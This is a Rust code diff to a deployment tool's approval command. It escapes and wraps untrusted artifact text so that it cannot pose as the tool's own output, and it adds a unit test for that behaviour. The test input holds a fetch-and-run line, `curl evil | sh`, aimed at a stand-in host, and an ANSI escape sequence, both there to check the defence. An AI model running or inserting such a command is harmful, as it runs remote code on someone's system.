@@ -8,12 +8,12 @@ use relay_aws::Sdk;
 use relay_aws::clock::now;
 use relay_aws::objects::Objects;
 use relay_console::Failure;
-use relay_protocol::encoding::printable;
+use relay_protocol::encoding::{escaped, printable};
 use relay_protocol::frame::{Tried, TriedArtifact};
 use relay_protocol::limits::APPROVAL_LIFETIME_MAX;
 use relay_protocol::outcome::ExitCode;
 use relay_protocol::time::plain_duration;
-use relay_protocol::{Approval, Envelope, Reason, Request, Statement as _, TargetName, Ticket, Timestamp};
+use relay_protocol::{Approval, Digest, Envelope, Reason, Request, Statement as _, TargetName, Ticket, Timestamp};
 
 use super::saved::Source;
 use super::store::Store;
@@ -51,6 +51,11 @@ pub(crate) async fn approve(arguments: &args::Approve) -> Result<u8, Failure> {
     let source = Source { copies: &arguments.saved, region, profile };
     for saved in &tried.saved {
         said_of(saved, &request, &source).await?.iter().for_each(|text| out(text));
+    }
+    for (name, _) in request.parameters.iter().filter(|(_, value)| value.parse::<Digest>().is_ok()) {
+        if tried.saved.iter().all(|saved| saved.parameter != *name) {
+            out(&format!("What is in the artifact `{name}` is not shown here: its digest is all that you approve."));
+        }
     }
     if tried.reason != Some(Reason::Approval) {
         return Err(Failure::usage(format!("this request does not wait for an approval: {}", tried.message)));
@@ -126,7 +131,7 @@ async fn said_of(saved: &TriedArtifact, request: &Request, source: &Source<'_>) 
     let age = plain_duration(now().since(*finished_at));
     let by = printable(&requesters.join(", "));
     let mut lines = vec![format!(
-        "The artifact `{parameter}` was saved by {deployment_id} of {target}, asked for by {by}, exit code {exit_code}, {age} ago."
+        "The artifact `{parameter}` was saved by {deployment_id} of {target}, asked for by {by}, exit code {exit_code}, {age} ago, as the launcher says."
     )];
     match source.text(saved, digest).await? {
         Some(text) => {
@@ -141,9 +146,29 @@ async fn said_of(saved: &TriedArtifact, request: &Request, source: &Source<'_>) 
     Ok(lines)
 }
 
-/// A text of a stranger, to its end, so that it cannot pass for a line of relay.
-fn barred(text: &str) -> impl Iterator<Item = String> {
-    text.split('\n').map(|line| format!("    │ {}", printable(line)))
+/// Columns of a text of a stranger in one line. A terminal of 80 columns does not break it, so that
+/// no part of it can pass for a line of relay.
+const WIDTH: usize = 72;
+
+/// A text of a stranger, whole, with a bar before each line. A long line goes on after another bar.
+fn barred(text: &str) -> Vec<String> {
+    let mut lines = Vec::new();
+    for line in text.split('\n') {
+        let (mut bar, mut piece, mut columns) = ('│', String::new(), 0);
+        for c in escaped(line).chars() {
+            // Some characters beyond ASCII are twice as wide.
+            let width = if c.is_ascii() { 1 } else { 2 };
+            if columns + width > WIDTH {
+                lines.push(format!("    {bar} {piece}"));
+                (bar, columns) = ('┆', 0);
+                piece.clear();
+            }
+            piece.push(c);
+            columns += width;
+        }
+        lines.push(format!("    {bar} {piece}"));
+    }
+    lines
 }
 
 /// Asks for the target's name. There is no flag for it.
@@ -170,4 +195,22 @@ async fn sign(
 fn write(path: &Path, given: &Given) -> Result<(), Failure> {
     let written = std::fs::write(path, given.to_bytes()?);
     written.map_err(|error| Failure::usage(format!("{}: {error}", path.display())))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    // clause: ART-7
+    #[test]
+    fn a_text_of_a_stranger_is_shown_whole_and_in_no_line_of_its_own() {
+        let plan = format!("+ user_data = \"{}; curl evil | sh\"\nend", "x".repeat(2_000));
+        let lines = barred(&plan);
+        assert!(lines.iter().all(|line| line.chars().count() <= 78 && line.starts_with("    ")), "{lines:?}");
+        let shown: String = lines.iter().map(|line| line.chars().skip(6).collect::<String>()).collect();
+        assert_eq!(shown, plan.replace('\n', ""));
+        assert_eq!(lines.iter().filter(|line| line.starts_with("    │ ")).count(), 2, "{lines:?}");
+        assert_eq!(barred("a\u{1b}[2Jb"), ["    │ a\\u{1b}[2Jb"]);
+        assert_eq!(barred(&"字".repeat(37)).len(), 2, "wide characters");
+    }
 }
